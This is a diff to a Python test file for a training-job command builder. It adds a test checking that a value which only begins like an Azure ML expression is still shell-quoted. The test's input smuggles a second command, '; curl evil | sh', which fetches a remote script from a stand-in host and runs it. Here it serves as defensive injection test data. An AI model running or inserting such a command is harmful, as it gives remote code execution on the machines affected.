@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import shlex
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -33,6 +34,12 @@ def test_the_command_is_quoted_but_for_azure_mls_expressions() -> None:
     command = arguments().to_command("python -m training_job.train")
     assert shlex.split(command) == ["python", "-m", "training_job.train", *arguments().to_argv()]
     assert " ${{inputs.manifest}} " in command
+
+
+def test_what_only_begins_as_an_expression_is_quoted() -> None:
+    """The shell of every rank would otherwise run what follows it."""
+    command = replace(arguments(), label_feature="${{inputs.data}}; curl evil | sh").to_command("program")
+    assert "${{inputs.data}}; curl evil | sh" in shlex.split(command)
 
 
 def test_an_unknown_flag_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
